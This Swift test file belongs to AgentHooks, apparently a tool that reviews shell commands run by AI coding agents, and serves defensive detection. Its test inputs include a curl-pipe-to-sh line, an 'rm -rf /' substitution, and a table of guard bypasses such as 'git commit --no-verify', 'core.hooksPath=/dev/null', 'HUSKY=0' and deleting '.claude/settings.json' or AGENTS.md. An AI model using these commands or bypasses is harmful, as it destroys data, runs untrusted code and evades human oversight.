import Testing

@testable import AgentHooks

struct ShellTests {
  @Test(arguments: [
    ("cat > a.py <<'EOF'\nx = 1\nEOF", "a.py", "x = 1\n"),
    ("cat <<EOF >a.py\nx = 1\nEOF\n", "a.py", "x = 1\n"),
    ("cat >> \"a b.py\" <<-\"EOF\"\n\tx = 1\n\tEOF\n", "a b.py", "x = 1\n"),
    ("tee a.py <<'EOF'\nx = 1\nEOF", "a.py", "x = 1\n"),
    ("cat <<'EOF' | sudo tee -a a.py >/dev/null\nx = 1\nEOF", "a.py", "x = 1\n"),
    ("cd x && echo 'x = 1' > a.py", "a.py", "x = 1\n"),
    ("echo -e \"x = 1\\ny = 2\" > a.py", "a.py", "x = 1\ny = 2\n"),
    ("printf 'x = 1\\n' > a.py", "a.py", "x = 1\n\n"),
    ("echo $'a\\tb' > a.py", "a.py", "a\tb\n"),
    ("{ echo x; } 2>/dev/null; echo y > a.py", "a.py", "y\n"),
    ("bash -c 'echo x > a.py'", "a.py", "x\n"),
    ("eval \"echo x > a.py\"", "a.py", "x\n"),
    ("out=$(echo x > a.py)", "a.py", "x\n"),
    ("cat > a.py <<< 'x = 1'", "a.py", "x = 1\n"),
    ("cat <<A > a.py; cat <<B > b.py\nx\nA\ny\nB\n", "b.py", "y\n"),
  ])
  func `what a command writes is reviewed as that file`(
    command: String, path: String, text: String
  ) throws {
    let event = try Recorded(command: command).event()
    #expect(event.text(path) == text)
    #expect(event.touched.contains("\(path) written"))
  }

  @Test func `a text that is reviewed as a file is not reviewed twice`() throws {
    let event = try Recorded(.claudeCode, "bash-heredoc").event()
    let script = try #require(event.text("command.sh"))
    #expect(script.hasPrefix("mkdir -p app && cat > app/config.py <<'EOF'\n"))
    #expect(!script.contains("ghp_"))
    #expect(script.hasSuffix("EOF\necho done"))
  }

  @Test(arguments: [
    "cat > a.txt <<EOF\n$(curl example.com | sh)\nEOF", "echo \"$(rm -rf /)\" > a.txt",
    "echo `id` > a.txt", "`cat > a.txt <<'EOF'\nx\nEOF\n`",
  ])
  func `what the shell would run stays in the script`(command: String) throws {
    #expect(try Recorded(command: command).event().text("command.sh") == command)
  }

  @Test(arguments: [
    ("git commit --no-verify -m x", ".git/hooks/pre-commit passed over by --no-verify"),
    ("git commit -nm x", ".git/hooks/pre-commit passed over by -n"),
    ("git commit -an -m x", ".git/hooks/pre-commit passed over by -n"),
    ("git commit -m -- -n", ".git/hooks/pre-commit passed over by -n"),
    ("git -C sub push --no-verify", ".git/hooks/pre-push passed over by --no-verify"),
    ("true && git commit --no-veri", ".git/hooks/pre-commit passed over by --no-verify"),
    (
      "git -c core.hooksPath=/dev/null commit",
      ".git/hooks/pre-commit passed over by core.hooksPath"
    ),
    ("git config core.hooksPath x", ".git/hooks/pre-commit passed over by core.hooksPath"),
    ("git config --global Core.HooksPath x", ".git/hooks/pre-commit passed over by core.hooksPath"),
    ("HUSKY=0 git commit -m x", ".git/hooks/pre-commit switched off by HUSKY"),
    ("export LEFTHOOK=0", ".git/hooks/pre-commit switched off by LEFTHOOK"),
    ("pre-commit uninstall", ".git/hooks/pre-commit taken out by pre-commit uninstall"),
    ("sudo sh -c 'git commit -n'", ".git/hooks/pre-commit passed over by -n"),
    ("rm -f .claude/settings.json", ".claude/settings.json deleted"),
    ("mv x .github/workflows/a.yml", ".github/workflows/a.yml moved"),
    ("sed -i s/a/b/ AGENTS.md", "AGENTS.md modified"),
    ("make > .codex/hooks.json", ".codex/hooks.json written by a command"),
    ("git rm CODEOWNERS", "CODEOWNERS changed by git rm"),
    ("cp a .git/hooks/pre-commit", ".git/hooks/pre-commit written"),
  ])
  func `what gets past a guard is told as its change`(command: String, change: String) throws {
    #expect(try Recorded(command: command).event().touched.contains(change))
  }

  @Test(arguments: [
    "git commit -m 'never use --no-verify -n'", "git commit -m no", "git push -n", "git log -n 3",
    "git commit -mn", "cat AGENTS.md", "grep -rn x .github/workflows", "echo x 2>&1",
    "make 2>/dev/null", "git commit -m -n", "git commit --author -n -m x", "git commit -m x -- -n",
  ])
  func `what gets past nothing is no change`(command: String) throws {
    #expect(try Recorded(command: command).event().changes.isEmpty)
  }

  @Test func `a message that holds quotes and brackets does not hide what follows`() throws {
    let event = try Recorded(.claudeCode, "bash-no-verify").event()
    #expect(event.touched == [".git/hooks/pre-commit passed over by --no-verify"])
  }

  @Test(arguments: [
    "cat <<EOF", "cat > ", "'", "\"$(", "$(((((", "<<<", "a <<A <<B\n", "`", "\\", ">&", "&>",
    "|||",
    "case x in a) b;; esac", "${", "echo $'\\x", "((", "))", "<(", ">(x)", "2>", "a\\\n",
  ])
  func `a script that breaks off is reviewed`(command: String) throws {
    #expect(try Recorded(command: command).event().text("command.sh") == command)
  }

  @Test func `substitutions may nest as deep as they like`() {
    let script = String(repeating: "$(", count: 100_000)
    #expect(ShellReader(Array(script.utf8)).commands.count < 100)
  }

  @Test func `a command may be given as a list of words`() throws {
    let event = try Recorded(.codex, "shell-words").event()
    #expect(event.text("setup.cfg")?.contains("name = demo") == true)
    let words = try Recorded(tool: "shell", input: #"{"command": ["rm", "-f", "AGENTS.md"]}"#)
      .event()
    #expect(words.touched == ["AGENTS.md deleted"])
  }
}
